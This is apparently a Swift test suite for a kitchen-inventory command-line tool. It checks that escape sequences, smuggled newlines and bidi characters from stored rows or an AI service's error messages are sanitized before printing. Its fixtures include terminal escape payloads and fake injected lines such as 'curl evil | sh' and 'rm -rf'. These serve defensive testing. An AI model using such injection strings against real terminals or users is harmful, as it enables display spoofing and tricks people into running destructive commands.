import Foundation
import GRDB
import LunchBoxCore
import LunchBoxServer
import LunchBoxStorage
import LunchBoxTesting
import Testing

@testable import LunchBoxCLI

/// What the CLI prints from data or a remote service reaches the terminal without
/// escape sequences (issue 27, case 9); an empty passphrase file stops `serve` (case 7).
@Suite("Hostile output")
struct HostileOutputTests {
    static let clearScreen = "\u{1B}[2J"
    static let windowTitle = "\u{1B}]0;owned\u{07}"

    /// A kitchen with bread and a row another tool wrote: LunchBox itself refuses control
    /// characters and line breaks in names.
    static func kitchenWithRow(named name: String) async throws -> CLIHarness {
        let cli = try CLIHarness()
        await cli.run("inventory", "add", "bread")
        let database = try DatabaseQueue(path: cli.databasePath)
        try await database.write { db in
            try db.execute(sql: "INSERT INTO inventoryItem (id, name, quantity, position) VALUES (?, ?, '', 99)", arguments: [UUID().uuidString, name])
        }
        return cli
    }

    @Test func anAIServiceErrorIsPrintedWithoutItsEscapes() async throws {
        let message = "bad key\(Self.clearScreen)\(Self.windowTitle)\u{9B}31m please"
        let cli = try CLIHarness()
        cli.transport = RecordingTransport(status: 404, body: #"{"error":{"message":"\#(message.unicodeEscaped)"}}"#, headers: ["Content-Type": "application/json"])
        await cli.run("settings", "base-url", "http://127.0.0.1:9/v1")
        await cli.run("settings", "set-key", input: ["sk-escape-test-0001"])
        await cli.run("inventory", "add", "eggs")
        let run = await cli.run("ideas", "--engine", "ai")
        #expect(run.status == 1)
        #expect(run.errors.contains("bad key"))
        #expect(run.errors.contains("please"))
        #expect(!run.errors.unicodeScalars.contains { TerminalText.isControl($0) && $0 != "\n" })
    }

    /// Issue 39, item 12: a name with a newline cannot print a line that looks like
    /// another item; the newline shows as `\n`.
    @Test func aNameWithANewlineStaysOnItsLine() async throws {
        let cli = try await Self.kitchenWithRow(named: "milk\n  5. FAKE: run curl evil | sh\u{2028}x")
        let listed = await cli.run("inventory", "list")
        #expect(listed.output.contains(#"milk\n  5. FAKE: run curl evil | sh\u{2028}x"#), "\(listed.output)")
        #expect(!listed.output.split(separator: "\n").contains { $0.hasPrefix("  5. FAKE") })
        let idea = LunchBoxIdea(name: "Toast\n2. Fake idea", ingredients: ["bread\nrm -rf"], preparationSteps: ["Toast.\n3) Fake step"])
        let buffer = Buffer()
        IdeaText.print(idea, number: 1, to: buffer, words: Wordings()[.english])
        #expect(buffer.contents.split(separator: "\n").count == 3, "\(buffer.contents)")
    }

    @Test func aRowWithEscapesIsListedAndRemovedWithoutThem() async throws {
        let cli = try await Self.kitchenWithRow(named: "milk\(Self.clearScreen)\(Self.windowTitle)")
        let list = await cli.run("inventory", "list")
        #expect(list.output.contains("milk"))
        #expect(!list.output.contains("\u{1B}") && !list.output.contains("\u{07}"))
        let json = await cli.run("inventory", "list", "--json")
        #expect(!json.output.contains("\u{1B}"))
        #expect(json.output.contains(#"\u001b"#), "JSON keeps the value, escaped")
        let removed = await cli.run("inventory", "remove", "2")
        #expect(removed.output.contains("milk") || removed.output.contains("bread"))
        #expect(!removed.output.contains("\u{1B}"))
    }

    @Test(arguments: [
        ("plain text\n", "plain text\n"), ("tab\there", "tab\there"), ("a\u{1B}[31mred\u{1B}[0m", "ared"), ("title\u{1B}]0;x\u{07}done", "titledone"),
        ("st\u{1B}]8;;http://e\u{1B}\\link", "stlink"), ("c1\u{9B}2Jx", "c1x"), ("cr\roverwrite", "croverwrite"), ("crlf\r\nkept", "crlf\r\nkept"), ("bidi\u{202E}txt", "biditxt"),
        ("ünïcödé 🥪", "ünïcödé 🥪"),
    ])
    func theSanitizerKeepsTextAndDropsSequences(_ input: String, _ expected: String) {
        #expect(TerminalText.sanitized(input) == expected)
    }

    @Test func anEmptyOrUnreadablePassphraseFileStopsTheServer() throws {
        let folder = try TemporaryDirectory()
        let empty = folder.file("empty")
        try Data().write(to: empty)
        #expect(throws: ServerConfigurationError.emptyPassphraseFile(path: empty.path)) {
            _ = try ServeCommand.passphrase(file: empty.path, environment: [:])
        }
        let blank = folder.file("blank")
        try Data("  \n\nsecret below\n".utf8).write(to: blank)
        #expect(throws: ServerConfigurationError.emptyPassphraseFile(path: blank.path)) {
            _ = try ServeCommand.passphrase(file: blank.path, environment: [:])
        }
        #expect(throws: ServerConfigurationError.unreadablePassphraseFile(path: folder.file("missing").path)) {
            _ = try ServeCommand.passphrase(file: folder.file("missing").path, environment: [:])
        }
        #expect(throws: ServerConfigurationError.passphraseTooShort) {
            _ = try ServerConfiguration(passphrase: "").validated()
        }
    }

    @Test func serveWithAnEmptyPassphraseFileSaysWhyAndExits() async throws {
        let cli = try CLIHarness()
        let empty = cli.home.file("passphrase")
        try Data().write(to: empty)
        let run = await cli.run("serve", "--port", "0", "--passphrase-file", empty.path)
        #expect(run.status == 1)
        #expect(run.errors.contains("is empty"))
    }
}

extension String {
    /// JSON string content with every scalar outside printable ASCII as `\uXXXX`.
    fileprivate var unicodeEscaped: String {
        unicodeScalars.map { scalar in
            (0x20...0x7E).contains(scalar.value) && scalar != "\"" && scalar != "\\" ? String(scalar) : String(format: "\\u%04x", scalar.value)
        }.joined()
    }
}
